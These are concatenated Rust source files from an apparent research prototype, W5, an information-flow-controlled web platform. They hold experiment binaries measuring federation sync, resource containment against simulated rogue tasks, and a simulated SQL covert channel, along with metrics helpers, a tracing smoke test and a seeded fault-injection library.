    let mut table = Table::new([
        "files",
        "bytes/file",
        "first sync ms",
        "converged resync ms",
        "wire payload KB",
        "files/s (first)",
    ]);

    for &(files, size) in &[(10usize, 1usize << 10), (100, 1 << 10), (100, 16 << 10), (500, 4 << 10)] {
        let a = Platform::new_default("provider-a");
        let b = Platform::new_default("provider-b");
        let bob_a = a.accounts.register("bob", "pw").unwrap();
        let _bob_b = b.accounts.register("bob", "pw").unwrap();
        opt_in(&a, bob_a.id);

        // Populate provider A.
        let subject = Subject::new(
            w5_difc::LabelPair::public(),
            a.registry.effective(&bob_a.owner_caps),
        );
        for i in 0..files {
            a.fs.create(
                &subject,
                &format!("/data/file{i}"),
                bob_a.data_labels(),
                Bytes::from(vec![b'x'; size]),
            )
            .unwrap();
        }

        let svc = FederationService::new(Arc::clone(&a), TOKEN);
        let server = Server::start("127.0.0.1:0", ServerConfig::default(), Arc::new(svc)).unwrap();
        let agent = SyncAgent::new(Arc::clone(&b), TOKEN);
        let link = AccountLink { remote_user: "bob".into(), local_user: "bob".into() };

        let t = std::time::Instant::now();
        let first = agent.pull(server.addr(), &link).unwrap();
        let first_ms = t.elapsed().as_secs_f64() * 1e3;
        assert_eq!(first.created, files);

        let t = std::time::Instant::now();
        let again = agent.pull(server.addr(), &link).unwrap();
        let again_ms = t.elapsed().as_secs_f64() * 1e3;
        assert_eq!(again.unchanged, files);

        table.row([
            files.to_string(),
            size.to_string(),
            format!("{first_ms:.1}"),
            format!("{again_ms:.1}"),
            format!("{:.0}", first.bytes as f64 / 1024.0),
            format!("{:.0}", files as f64 / (first_ms / 1e3)),
        ]);
        server.shutdown();
    }

    println!("{table}");
    println!("shape check: first sync scales with payload; converged resyncs cost only the");
    println!("             transfer+hash check (no writes); updates propagate in one round.");
}
