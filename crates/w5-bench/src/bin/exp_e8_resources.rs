//! E8 — resource allocation (paper §3.5).
//!
//! "Processes must be limited to reasonable amounts of disk, network,
//! memory and CPU usage, lest rogue applications degrade the performance
//! of the W5 cluster." Two arms:
//!
//! 1. **CPU**: a spinning rogue task shares the deterministic scheduler
//!    with honest tasks, with resource containers on and off. Metric:
//!    honest-task completion latency (virtual ticks).
//! 2. **SQL**: a pathological full-scan query against a large table, with
//!    and without the per-query scan budget. Metric: rows actually
//!    scanned before the engine cuts it off.

use std::sync::Arc;
use w5_difc::{CapSet, LabelPair, TagRegistry};
use w5_kernel::{Kernel, ResourceLimits, Scheduler, Step};
use w5_store::{Database, QueryCost, QueryError, QueryMode, Subject};
use w5_sim::Table;

fn worker(total: u64, slice: u64) -> impl FnMut(&Kernel, w5_kernel::ProcessId) -> Step {
    let mut left = total;
    move |_k, _p| {
        if left == 0 {
            return Step::Done;
        }
        let c = slice.min(left);
        left -= c;
        Step::Yield { cost: c }
    }
}

fn cpu_arm(enforce: bool, rogues: usize) -> (u64, u64) {
    let kernel = Kernel::new(Arc::new(TagRegistry::new()));
    let mut sched = Scheduler::new(kernel.clone(), 100, enforce);
    // Honest task: 200 ticks of real work.
    let honest = kernel.create_process(
        "honest",
        LabelPair::public(),
        CapSet::empty(),
        ResourceLimits { cpu_per_epoch: 100, ..ResourceLimits::unlimited() },
    );
    sched.add(honest, Box::new(worker(200, 10)));
    for i in 0..rogues {
        let rogue = kernel.create_process(
            &format!("rogue{i}"),
            LabelPair::public(),
            CapSet::empty(),
            ResourceLimits { cpu_per_epoch: 10, ..ResourceLimits::unlimited() },
        );
        sched.add(rogue, Box::new(worker(u64::MAX / 4, 1000)));
    }
    let report = sched.run(2_000_000);
    let honest_done = report.finished_at.get(&honest).copied().unwrap_or(u64::MAX);
    let rogue_executed: u64 = report
        .executed
        .iter()
        .filter(|(pid, _)| **pid != honest)
        .map(|(_, t)| *t)
        .sum();
    (honest_done, rogue_executed)
}

fn main() {
    w5_bench::banner("E8", "rogue apps vs resource containers", "§3.5");

    // --- CPU containment.
    let mut cpu = Table::new([
        "rogues",
        "honest latency (no containers)",
        "honest latency (containers)",
        "speedup",
    ]);
    for &rogues in &[1usize, 2, 4, 8] {
        let (off, _) = cpu_arm(false, rogues);
        let (on, _) = cpu_arm(true, rogues);
        cpu.row([
            rogues.to_string(),
            off.to_string(),
            on.to_string(),
            format!("{:.1}x", off as f64 / on as f64),
        ]);
    }
    println!("{cpu}");

    // --- SQL budget containment.
    let db = Database::new();
    let trusted = Subject::anonymous();
    db.execute(&trusted, QueryMode::Filtered, QueryCost::unlimited(), &LabelPair::public(),
        "CREATE TABLE big (n INTEGER)").unwrap();
    // 50k rows in batches.
    for chunk in 0..50 {
        let values: Vec<String> = (0..1000).map(|i| format!("({})", chunk * 1000 + i)).collect();
        db.execute(&trusted, QueryMode::Filtered, QueryCost::unlimited(), &LabelPair::public(),
            &format!("INSERT INTO big VALUES {}", values.join(","))).unwrap();
    }

    let mut sql = Table::new(["budget (rows)", "outcome", "rows scanned", "time ms"]);
    let evil = "SELECT COUNT(*) FROM big WHERE n * 3 % 7 = 1 OR n * 5 % 11 = 2";
    for budget in [u64::MAX, 100_000, 10_000, 1_000] {
        let cost = QueryCost { max_rows_scanned: budget };
        let t = std::time::Instant::now();
        let res = db.execute(&trusted, QueryMode::Filtered, cost, &LabelPair::public(), evil);
        let ms = t.elapsed().as_secs_f64() * 1e3;
        let (outcome, scanned) = match &res {
            Ok(out) => ("completed", out.scanned),
            Err(QueryError::BudgetExhausted) => ("aborted (budget)", budget),
            Err(e) => panic!("{e}"),
        };
        sql.row([
            if budget == u64::MAX { "unlimited".to_string() } else { budget.to_string() },
            outcome.to_string(),
            scanned.to_string(),
            format!("{ms:.2}"),
        ]);
    }
    println!("{sql}");

    println!("shape check: with containers, honest latency is flat in the number of rogues;");
    println!("             without, it degrades ~linearly. Budgeted queries abort in O(budget).");
}
