//! E9 — the SQL covert channel (paper §3.5).
//!
//! "The SQL interface to databases can leak information implicitly and
//! thus needs to be replaced under W5."
//!
//! The channel: a tainted sender encodes bits as the presence/absence of
//! rows in a shared table; an untainted receiver reads `COUNT(*)`.
//! Measured arms:
//!
//! * **naive store** (today's shared database): the receiver's count
//!   tracks the sender's rows exactly — the channel transfers at full
//!   query rate with no trace.
//! * **W5 store**: the count the receiver *can see without taint* never
//!   moves. Reading the tainted rows is possible, but the result taints
//!   the reading instance, so at the platform level the value is blocked
//!   at the perimeter and every probe is audited (see the scenario test
//!   in `w5-apps`).

use std::sync::Arc;
use w5_difc::{Label, LabelPair, TagKind, TagRegistry};
use w5_store::{Database, QueryCost, QueryMode, Subject, Value};
use w5_sim::Table;

fn count(db: &Database, subject: &Subject, mode: QueryMode) -> i64 {
    let out = db
        .execute(subject, mode, QueryCost::unlimited(), &LabelPair::public(),
            "SELECT COUNT(*) FROM signal")
        .unwrap();
    match out.rows.first().map(|r| &r.values[0]) {
        Some(Value::Int(n)) => *n,
        _ => 0,
    }
}

fn main() {
    w5_bench::banner("E9", "SQL covert channel bandwidth: naive vs W5 store", "§3.5");

    let reg = Arc::new(TagRegistry::new());
    // The secret is read-protected: the canonical "receiver must not even
    // learn it exists" case.
    let (secret_tag, owner_caps) = reg.create_tag(TagKind::ReadProtect, "read:victim");
    let sender = Subject::new(
        LabelPair::new(Label::singleton(secret_tag), Label::empty()),
        reg.effective(&owner_caps),
    );
    let receiver = Subject::new(LabelPair::public(), reg.effective(&w5_difc::CapSet::empty()));

    let db = Database::new();
    let trusted = Subject::anonymous();
    db.execute(&trusted, QueryMode::Filtered, QueryCost::unlimited(), &LabelPair::public(),
        "CREATE TABLE signal (x INTEGER)").unwrap();

    let secret_labels = LabelPair::new(Label::singleton(secret_tag), Label::empty());
    let message: Vec<u8> = (0..64u32).map(|i| ((i * 37 + 11) % 2) as u8).collect(); // 64 bits

    let mut table = Table::new(["store", "bits sent", "bits received", "accuracy", "bandwidth"]);
    for (name, mode) in [("naive (status quo)", QueryMode::Naive), ("w5 (filtered)", QueryMode::Filtered)] {
        let mut received = Vec::with_capacity(message.len());
        let t = std::time::Instant::now();
        for &bit in &message {
            // Sender: one row = 1, no row = 0.
            if bit == 1 {
                db.execute(&sender, QueryMode::Filtered, QueryCost::unlimited(), &secret_labels,
                    "INSERT INTO signal VALUES (1)").unwrap();
            }
            // Receiver probes.
            let n = count(&db, &receiver, mode);
            received.push(if n > 0 { 1u8 } else { 0 });
            // Sender clears for the next symbol.
            db.execute(&sender, QueryMode::Filtered, QueryCost::unlimited(), &secret_labels,
                "DELETE FROM signal").unwrap();
        }
        let elapsed = t.elapsed();
        let correct = message.iter().zip(&received).filter(|(a, b)| a == b).count();
        let ones = message.iter().filter(|&&b| b == 1).count();
        let accuracy = correct as f64 / message.len() as f64;
        // Channel capacity is ~0 when the receiver always reads the same
        // symbol; report raw accuracy plus effective bandwidth.
        let leaked_bits = if received.iter().all(|&b| b == received[0]) {
            0.0 // constant output carries no information
        } else {
            accuracy * message.len() as f64
        };
        table.row([
            name.to_string(),
            message.len().to_string(),
            format!("{leaked_bits:.0}"),
            format!("{:.0}%", accuracy * 100.0),
            if leaked_bits > 0.0 {
                format!("{:.0} bit/s", leaked_bits / elapsed.as_secs_f64())
            } else {
                "0 bit/s".to_string()
            },
        ]);
        let _ = ones;
    }
    println!("{table}");
    println!("shape check: the naive store leaks the full message at query rate; the W5 store's");
    println!("             receiver-visible count never moves (0 bits). Residual signalling via");
    println!("             perimeter denials is blocked+audited at the platform layer (see");
    println!("             w5-apps scenario test attack_covert_channel_never_exports_the_count).");
}
