//! Run every experiment binary in order, producing the complete
//! evaluation transcript `EXPERIMENTS.md` records, plus a JSON summary
//! artifact (`run_all.json`) for CI.

use std::process::Command;
use w5_bench::metrics::{write_metrics, ExperimentStatus, RunAllMetrics};

fn main() {
    let exps = [
        "exp_e1_walls",
        "exp_e2_attacks",
        "exp_e3_micro",
        "exp_e4_http",
        "exp_e5_audit",
        "exp_e6_coderank",
        "exp_e7_federation",
        "exp_e8_resources",
        "exp_e9_covert",
        "exp_e10_sanitize",
        "exp_e11_store",
        "exp_e12_recommender",
        "exp_a1_ablation",
    ];
    let self_path = std::env::current_exe().expect("own path");
    let dir = self_path.parent().expect("bin dir");
    let mut results = Vec::new();
    for exp in exps {
        println!("\n##################################################################");
        let status = Command::new(dir.join(exp))
            .status()
            .unwrap_or_else(|e| panic!("spawn {exp}: {e}"));
        results.push(ExperimentStatus { name: exp.to_string(), ok: status.success() });
    }
    let failures: Vec<&str> = results
        .iter()
        .filter(|r| !r.ok)
        .map(|r| r.name.as_str())
        .collect();
    let metrics = RunAllMetrics {
        failures: failures.len() as u64,
        experiments: results.clone(),
    };
    println!("\n##################################################################");
    match write_metrics("run_all", &metrics) {
        Ok(path) => println!("metrics: {}", path.display()),
        Err(e) => eprintln!("failed to write metrics artifact: {e}"),
    }
    if failures.is_empty() {
        println!("all {} experiments completed", exps.len());
    } else {
        println!("FAILED: {failures:?}");
        std::process::exit(1);
    }
}
