//! trace_smoke — seed a two-provider world with tracing at full sampling,
//! drive one federation pull and one app invocation end to end, and
//! export the global ledger's clearance-gated trace view as JSON for
//! `w5trace` to query.
//!
//! CI runs this, then `w5trace --critical-path` over the artifact; the
//! assertions here are the smoke gate (a complete cross-federation tree
//! must exist), the artifact is the evidence.
//!
//! Artifact: `<metrics_dir>/TRACES_smoke.json` (`W5_METRICS_DIR`
//! redirects it, default `target/metrics/`).

use bytes::Bytes;
use std::sync::Arc;
use w5_federation::service::opt_in;
use w5_federation::{AccountLink, FederationService, SyncAgent};
use w5_net::{Server, ServerConfig};
use w5_obs::ObsLabel;
use w5_platform::Platform;
use w5_sim::{build_population, PopulationConfig};

const TOKEN: &str = "trace-smoke-peer-token";

fn main() {
    w5_bench::banner("TRACE", "cross-layer causal tracing smoke", "§3.5");

    // Head-sample everything: a smoke run wants the whole tree.
    w5_obs::set_trace_sampling(1.0, 0);

    // Provider A: a small populated world. Provider B: fresh mirror.
    let world = build_population(
        Platform::new_default("provider-a"),
        PopulationConfig { users: 4, photos_per_user: 3, ..Default::default() },
    );
    let a = Arc::clone(&world.platform);
    let b = Platform::new_default("provider-b");
    w5_apps::install_all(&b);
    for account in &world.accounts {
        b.accounts.register(&account.username, "pw").unwrap();
    }
    let u0 = &world.accounts[0];
    opt_in(&a, u0.id);

    // One cross-provider pull: federation.pull → (wire) → net.http →
    // federation.export stitches into a single trace.
    let svc = FederationService::new(Arc::clone(&a), TOKEN);
    let server = Server::start("127.0.0.1:0", ServerConfig::default(), Arc::new(svc)).unwrap();
    let agent = SyncAgent::new(Arc::clone(&b), TOKEN);
    let link = AccountLink { remote_user: u0.username.clone(), local_user: u0.username.clone() };
    let report = agent.pull(server.addr(), &link).unwrap();
    assert_eq!(report.created, 3, "seed world mirrors all photos: {report:?}");
    server.shutdown();

    // One app invocation on the mirror: platform.invoke with kernel and
    // perimeter children.
    let u0_b = b.accounts.get_by_name(&u0.username).unwrap();
    let req = Platform::make_request(
        "GET",
        "view",
        &[("user", u0.username.as_str()), ("name", "photo0")],
        Some(&u0_b),
        Bytes::new(),
    );
    assert_eq!(b.invoke(Some(&u0_b), "devA/photos", req).status, 200);

    // Export with broad clearance so CI sees real names; `w5trace`
    // re-redacts per its own --clearance flag.
    let broad = ObsLabel::from_tags(1..=4096);
    let view = w5_obs::global().trace_view(&broad);
    assert!(!view.spans.is_empty(), "tracing recorded no spans");

    let names: Vec<&str> = view.spans.iter().map(|s| s.name.as_str()).collect();
    for expect in ["federation.pull", "net.http", "federation.export", "platform.invoke"] {
        assert!(
            names.iter().any(|n| n.starts_with(expect)),
            "missing {expect:?} span in {names:?}"
        );
    }

    // The pull and the peer's HTTP handling must share one trace id: that
    // is the wire-propagated context doing its job.
    let pull = view.spans.iter().find(|s| s.name.starts_with("federation.pull")).unwrap();
    let http = view.spans.iter().find(|s| s.name.starts_with("net.http")).unwrap();
    assert_eq!(pull.trace, http.trace, "wire context did not stitch the federation trace");

    let path = w5_bench::metrics::write_metrics("TRACES_smoke", &view).unwrap();
    println!(
        "{} spans across {} trace(s); stitched federation trace {:016x}",
        view.spans.len(),
        w5_obs::trace::trace_ids(&view.spans).len(),
        pull.trace,
    );
    println!("wrote {}", path.display());
}
