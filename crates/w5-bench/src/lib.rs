//! # w5-bench — the evaluation harness
//!
//! The paper has no evaluation section (it is a HotNets position paper);
//! `DESIGN.md` §4 defines the experiment suite this crate implements. Each
//! `exp_*` binary regenerates one experiment's table; `cargo bench` runs
//! the Criterion microbenchmarks. `EXPERIMENTS.md` records claim vs
//! measurement for each.
//!
//! This library holds the helpers the binaries share.

#![forbid(unsafe_code)]

use std::time::{Duration, Instant};
use w5_sim::Histogram;

pub mod metrics;

/// Time a closure `n` times into a histogram, after `warmup` unmeasured
/// runs.
pub fn measure<F: FnMut()>(warmup: usize, n: usize, mut f: F) -> Histogram {
    for _ in 0..warmup {
        f();
    }
    let mut h = Histogram::new();
    for _ in 0..n {
        let t = Instant::now();
        f();
        h.record(t.elapsed());
    }
    h
}

/// Run a closure repeatedly for at least `budget`, returning
/// (iterations, elapsed).
pub fn throughput<F: FnMut()>(budget: Duration, mut f: F) -> (u64, Duration) {
    let start = Instant::now();
    let mut iters = 0u64;
    while start.elapsed() < budget {
        f();
        iters += 1;
    }
    (iters, start.elapsed())
}

/// Format ops/sec.
pub fn ops_per_sec(iters: u64, elapsed: Duration) -> String {
    if elapsed.is_zero() {
        return "inf".to_string();
    }
    let rate = iters as f64 / elapsed.as_secs_f64();
    if rate >= 1e6 {
        format!("{:.2}M/s", rate / 1e6)
    } else if rate >= 1e3 {
        format!("{:.1}k/s", rate / 1e3)
    } else {
        format!("{rate:.1}/s")
    }
}

/// Print a standard experiment header.
pub fn banner(id: &str, title: &str, anchor: &str) {
    println!("=== {id}: {title}");
    println!("    paper anchor: {anchor}");
    println!();
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn measure_records_n_samples() {
        let h = measure(2, 10, || {
            std::hint::black_box(1 + 1);
        });
        assert_eq!(h.count(), 10);
    }

    #[test]
    fn throughput_runs_at_least_once() {
        let (iters, elapsed) = throughput(Duration::from_millis(5), || {
            std::hint::black_box(2 * 2);
        });
        assert!(iters >= 1);
        assert!(elapsed >= Duration::from_millis(5));
    }

    #[test]
    fn rate_formatting() {
        assert_eq!(ops_per_sec(2_000_000, Duration::from_secs(1)), "2.00M/s");
        assert_eq!(ops_per_sec(5_000, Duration::from_secs(1)), "5.0k/s");
        assert_eq!(ops_per_sec(10, Duration::from_secs(1)), "10.0/s");
    }
}
