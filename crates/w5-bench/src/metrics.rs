//! Machine-readable experiment artifacts.
//!
//! Each `exp_*` binary prints a human transcript *and* can drop a JSON
//! metrics file so CI (or a later analysis pass) never scrapes stdout.
//! Files land in `target/metrics/` by default; set `W5_METRICS_DIR` to
//! redirect (tests use a temp dir).

use std::path::PathBuf;

/// One named source-line measurement (an app or a declassifier).
#[derive(Clone, Debug, PartialEq, Eq, serde::Serialize, serde::Deserialize)]
pub struct NamedLines {
    /// Component name (e.g. `"devA/photos"` or `"friends-only"`).
    pub name: String,
    /// Source lines attributed to it.
    pub lines: u64,
}

/// E5's audit-surface measurement: declassifier decision logic vs the
/// applications it guards.
#[derive(Clone, Debug, PartialEq, serde::Serialize, serde::Deserialize)]
pub struct AuditSurfaceMetrics {
    /// Applications and their source sizes.
    pub apps: Vec<NamedLines>,
    /// Declassifiers and their decision-logic sizes.
    pub declassifiers: Vec<NamedLines>,
    /// Mean application size in lines.
    pub avg_app_lines: f64,
    /// Mean declassifier size in lines.
    pub avg_declassifier_lines: f64,
    /// `avg_app_lines / avg_declassifier_lines`.
    pub ratio: f64,
}

/// The outcome of one experiment binary in a `run_all` sweep.
#[derive(Clone, Debug, PartialEq, Eq, serde::Serialize, serde::Deserialize)]
pub struct ExperimentStatus {
    /// Binary name, e.g. `"exp_e5_audit"`.
    pub name: String,
    /// Did it exit 0?
    pub ok: bool,
}

/// The `run_all` summary artifact.
#[derive(Clone, Debug, PartialEq, Eq, serde::Serialize, serde::Deserialize)]
pub struct RunAllMetrics {
    /// Per-experiment outcomes, in run order.
    pub experiments: Vec<ExperimentStatus>,
    /// Count of failures (0 on a clean sweep).
    pub failures: u64,
}

/// Where metrics artifacts go: `$W5_METRICS_DIR`, else `target/metrics`.
pub fn metrics_dir() -> PathBuf {
    match std::env::var_os("W5_METRICS_DIR") {
        Some(d) => PathBuf::from(d),
        None => PathBuf::from("target/metrics"),
    }
}

/// Serialize `value` as pretty JSON to `<metrics_dir>/<name>.json`,
/// returning the path written. Errors are surfaced, not swallowed — a
/// sweep that cannot record its results should fail loudly.
pub fn write_metrics<T: serde::Serialize>(
    name: &str,
    value: &T,
) -> std::io::Result<PathBuf> {
    let dir = metrics_dir();
    std::fs::create_dir_all(&dir)?;
    let path = dir.join(format!("{name}.json"));
    let json = serde_json::to_string_pretty(value)
        .map_err(|e| std::io::Error::new(std::io::ErrorKind::InvalidData, e.to_string()))?;
    // Disk I/O can park the thread; a bench loop that calls this while
    // holding a classed lock is a W5D003.
    w5_sync::lockdep::blocking("bench.metrics.write");
    std::fs::write(&path, json)?;
    Ok(path)
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn audit_surface_roundtrips_through_json() {
        let m = AuditSurfaceMetrics {
            apps: vec![NamedLines { name: "devA/photos".into(), lines: 120 }],
            declassifiers: vec![NamedLines { name: "friends-only".into(), lines: 7 }],
            avg_app_lines: 120.0,
            avg_declassifier_lines: 7.0,
            ratio: 120.0 / 7.0,
        };
        let json = serde_json::to_string_pretty(&m).unwrap();
        let back: AuditSurfaceMetrics = serde_json::from_str(&json).unwrap();
        assert_eq!(back, m);
    }

    #[test]
    fn run_all_roundtrips_through_json() {
        let m = RunAllMetrics {
            experiments: vec![
                ExperimentStatus { name: "exp_e1_walls".into(), ok: true },
                ExperimentStatus { name: "exp_e5_audit".into(), ok: false },
            ],
            failures: 1,
        };
        let json = serde_json::to_string(&m).unwrap();
        let back: RunAllMetrics = serde_json::from_str(&json).unwrap();
        assert_eq!(back, m);
    }

    #[test]
    fn write_metrics_lands_in_the_requested_dir() {
        let dir = std::env::temp_dir().join("w5-metrics-test");
        let _ = std::fs::remove_dir_all(&dir);
        std::env::set_var("W5_METRICS_DIR", &dir);
        let m = ExperimentStatus { name: "probe".into(), ok: true };
        let path = write_metrics("probe", &m).unwrap();
        std::env::remove_var("W5_METRICS_DIR");
        assert!(path.starts_with(&dir));
        let text = std::fs::read_to_string(&path).unwrap();
        let back: ExperimentStatus = serde_json::from_str(&text).unwrap();
        assert_eq!(back, m);
        let _ = std::fs::remove_dir_all(&dir);
    }
}
