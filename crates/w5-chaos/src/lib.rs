//! # w5-chaos — seeded, deterministic fault injection
//!
//! W5's security argument has to survive crashes, torn writes and dropped
//! messages (paper §3.5 flags storage and query channels as exactly where
//! leaks hide). This crate provides the machinery to *provoke* those
//! failures on purpose, deterministically:
//!
//! * a [`FaultPlan`] names the injection [`Site`]s to arm and a failure
//!   probability for each, plus one RNG seed;
//! * an [`Injector`] rolls the plan's seeded RNG at every armed site, so a
//!   run replays **bit-identically** from its seed (unarmed sites never
//!   touch the RNG — arming decisions are part of the plan, not the roll
//!   stream);
//! * instrumented components call [`inject`] at their fault points; the
//!   call is a no-op returning `None` unless a test has installed an
//!   injector for the current thread via [`with_injector`].
//!
//! Injectors are **thread-scoped**, never process-global: `cargo test`
//! runs tests concurrently, and a global injector would let one test's
//! fault schedule perturb another's RNG stream. Components running on
//! other threads (e.g. the HTTP server's per-connection threads) are
//! instead handed an `Arc<Injector>` explicitly by the code that owns
//! them.

#![forbid(unsafe_code)]

use w5_sync::Mutex;
use rand::rngs::StdRng;
use rand::{Rng, SeedableRng};
use std::cell::RefCell;
use std::collections::BTreeMap;
use std::fmt;
use std::sync::Arc;

/// A fault-injection point in the stack. Each variant is one *class* of
/// failure a component volunteers to suffer.
#[derive(Clone, Copy, Debug, PartialEq, Eq, PartialOrd, Ord, Hash)]
pub enum Site {
    /// `Kernel::spawn` fails before creating the child.
    KernelSpawn,
    /// `Kernel::send_strict` fails transiently before enqueueing.
    KernelSend,
    /// The scheduler preempts the running task after a single tick
    /// (preemption storm).
    SchedPreempt,
    /// A labeled filesystem write/create aborts before commit (torn write:
    /// the old state must remain fully intact).
    FsWrite,
    /// A SQL statement aborts before execution.
    SqlQuery,
    /// An HTTP client connection drops before the request is sent.
    NetConnect,
    /// An HTTP response body is truncated mid-read.
    NetBody,
    /// A federation pull finds the peer partitioned away.
    FedPartition,
    /// A federation batch arrives with its records reordered (delayed
    /// records overtaking newer ones).
    FedReorder,
    /// The request pipeline's admission stage finds the principal's queue
    /// full even though it is not (forced shed — the 503 + `Retry-After`
    /// path under no real load).
    NetQueueFull,
    /// A pipeline worker stalls briefly before running a dequeued request
    /// (straggler worker; exercises occupancy accounting and fairness
    /// under uneven service times).
    NetSlowWorker,
}

impl Site {
    /// Every site, in `Ord` order.
    pub const ALL: [Site; 11] = [
        Site::KernelSpawn,
        Site::KernelSend,
        Site::SchedPreempt,
        Site::FsWrite,
        Site::SqlQuery,
        Site::NetConnect,
        Site::NetBody,
        Site::FedPartition,
        Site::FedReorder,
        Site::NetQueueFull,
        Site::NetSlowWorker,
    ];

    /// Stable lowercase name (reports, fault details, CI logs).
    pub fn as_str(self) -> &'static str {
        match self {
            Site::KernelSpawn => "kernel.spawn",
            Site::KernelSend => "kernel.send",
            Site::SchedPreempt => "sched.preempt",
            Site::FsWrite => "fs.write",
            Site::SqlQuery => "sql.query",
            Site::NetConnect => "net.connect",
            Site::NetBody => "net.body",
            Site::FedPartition => "federation.partition",
            Site::FedReorder => "federation.reorder",
            Site::NetQueueFull => "net.queue_full",
            Site::NetSlowWorker => "net.slow_worker",
        }
    }
}

impl fmt::Display for Site {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        f.write_str(self.as_str())
    }
}

/// One injected fault: which site fired and how many faults that site has
/// produced so far in this injector's lifetime (1-based).
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub struct Fault {
    /// The site that fired.
    pub site: Site,
    /// Ordinal of this fault at its site (first fault = 1).
    pub n: u64,
}

/// A seeded fault schedule: which sites are armed, at what probability,
/// and the RNG seed that makes every roll reproducible.
#[derive(Clone, Debug, PartialEq)]
pub struct FaultPlan {
    /// Seed for the injector's RNG.
    pub seed: u64,
    /// Per-site failure probability in `[0, 1]`. Absent sites never fire
    /// and never consume randomness.
    pub rates: BTreeMap<Site, f64>,
}

impl FaultPlan {
    /// An empty plan (nothing armed) with the given seed.
    pub fn new(seed: u64) -> FaultPlan {
        FaultPlan { seed, rates: BTreeMap::new() }
    }

    /// Arm `site` at probability `rate` (clamped to `[0, 1]`).
    pub fn with(mut self, site: Site, rate: f64) -> FaultPlan {
        self.rates.insert(site, rate.clamp(0.0, 1.0));
        self
    }

    /// Arm every site at the same probability — the "storm" preset.
    pub fn storm(seed: u64, rate: f64) -> FaultPlan {
        let mut plan = FaultPlan::new(seed);
        for site in Site::ALL {
            plan.rates.insert(site, rate.clamp(0.0, 1.0));
        }
        plan
    }
}

#[derive(Default)]
struct SiteTally {
    checked: u64,
    injected: u64,
}

struct InjectorState {
    rng: StdRng,
    tallies: BTreeMap<Site, SiteTally>,
}

/// What an injector did, for assertions and CI logs.
#[derive(Clone, Debug, Default, PartialEq, Eq)]
pub struct ChaosReport {
    /// Rolls evaluated per site.
    pub checked: BTreeMap<Site, u64>,
    /// Faults fired per site.
    pub injected: BTreeMap<Site, u64>,
}

impl ChaosReport {
    /// Total faults fired across all sites.
    pub fn total_injected(&self) -> u64 {
        self.injected.values().sum()
    }
}

/// Rolls a [`FaultPlan`]'s dice. Cheap to share (`Arc`), safe to call from
/// several threads — though determinism is only guaranteed when all rolls
/// happen in a deterministic order (i.e. from one thread).
pub struct Injector {
    plan: FaultPlan,
    state: Mutex<InjectorState>,
}

impl Injector {
    /// An injector executing `plan` from its seed.
    pub fn new(plan: FaultPlan) -> Arc<Injector> {
        let rng = StdRng::seed_from_u64(plan.seed);
        Arc::new(Injector {
            plan,
            state: Mutex::new("chaos.injector", InjectorState { rng, tallies: BTreeMap::new() }),
        })
    }

    /// The plan this injector executes.
    pub fn plan(&self) -> &FaultPlan {
        &self.plan
    }

    /// Roll for `site`. Returns `Some(Fault)` when the site is armed and
    /// the die says fail. Unarmed sites return `None` without consuming
    /// randomness, so the roll stream is a pure function of (seed, the
    /// sequence of armed-site visits).
    pub fn roll(&self, site: Site) -> Option<Fault> {
        let rate = *self.plan.rates.get(&site)?;
        let mut state = self.state.lock();
        let fire = state.rng.gen_bool(rate);
        let tally = state.tallies.entry(site).or_default();
        tally.checked += 1;
        if fire {
            tally.injected += 1;
            Some(Fault { site, n: tally.injected })
        } else {
            None
        }
    }

    /// Tallies so far.
    pub fn report(&self) -> ChaosReport {
        let state = self.state.lock();
        let mut report = ChaosReport::default();
        for (site, tally) in &state.tallies {
            report.checked.insert(*site, tally.checked);
            report.injected.insert(*site, tally.injected);
        }
        report
    }
}

thread_local! {
    static CURRENT: RefCell<Vec<Arc<Injector>>> = const { RefCell::new(Vec::new()) };
}

/// Installs an injector for the current thread for the guard's lifetime.
/// Guards nest; the innermost wins. See [`with_injector`].
pub struct ScopeGuard {
    _private: (),
}

impl Drop for ScopeGuard {
    fn drop(&mut self) {
        CURRENT.with(|c| {
            c.borrow_mut().pop();
        });
    }
}

/// Install `injector` as the current thread's fault source until the
/// returned guard is dropped.
pub fn with_injector(injector: Arc<Injector>) -> ScopeGuard {
    CURRENT.with(|c| c.borrow_mut().push(injector));
    ScopeGuard { _private: () }
}

/// The injector currently installed on this thread, if any.
pub fn current() -> Option<Arc<Injector>> {
    CURRENT.with(|c| c.borrow().last().cloned())
}

/// The hook instrumented components call at their fault points. Returns
/// `None` (with no RNG activity and no allocation) unless an injector is
/// installed on this thread *and* its plan arms `site` *and* the die says
/// fail.
pub fn inject(site: Site) -> Option<Fault> {
    CURRENT.with(|c| c.borrow().last().map(Arc::clone))?.roll(site)
}

#[cfg(test)]
mod tests {
    use super::*;

    fn roll_sequence(injector: &Injector, sites: &[Site]) -> Vec<bool> {
        sites.iter().map(|&s| injector.roll(s).is_some()).collect()
    }

    #[test]
    fn same_seed_replays_identically() {
        let plan = FaultPlan::new(42).with(Site::FsWrite, 0.5).with(Site::KernelSend, 0.3);
        let visits: Vec<Site> = (0..200)
            .map(|i| if i % 3 == 0 { Site::KernelSend } else { Site::FsWrite })
            .collect();
        let a = roll_sequence(&Injector::new(plan.clone()), &visits);
        let b = roll_sequence(&Injector::new(plan), &visits);
        assert_eq!(a, b);
        assert!(a.iter().any(|&x| x), "a 0.5-rate site should fire in 200 rolls");
        assert!(a.iter().any(|&x| !x), "and also not fire");
    }

    #[test]
    fn different_seeds_diverge() {
        let visits = [Site::FsWrite; 64];
        let a = roll_sequence(&Injector::new(FaultPlan::new(1).with(Site::FsWrite, 0.5)), &visits);
        let b = roll_sequence(&Injector::new(FaultPlan::new(2).with(Site::FsWrite, 0.5)), &visits);
        assert_ne!(a, b);
    }

    #[test]
    fn unarmed_sites_do_not_consume_randomness() {
        let plan = FaultPlan::new(7).with(Site::SqlQuery, 0.5);
        let a = Injector::new(plan.clone());
        let b = Injector::new(plan);
        // a visits an unarmed site between every armed roll; b never does.
        let mut seq_a = Vec::new();
        let mut seq_b = Vec::new();
        for _ in 0..100 {
            assert!(a.roll(Site::NetConnect).is_none());
            seq_a.push(a.roll(Site::SqlQuery).is_some());
            seq_b.push(b.roll(Site::SqlQuery).is_some());
        }
        assert_eq!(seq_a, seq_b, "unarmed visits must not perturb the stream");
    }

    #[test]
    fn rate_zero_never_fires_rate_one_always_fires() {
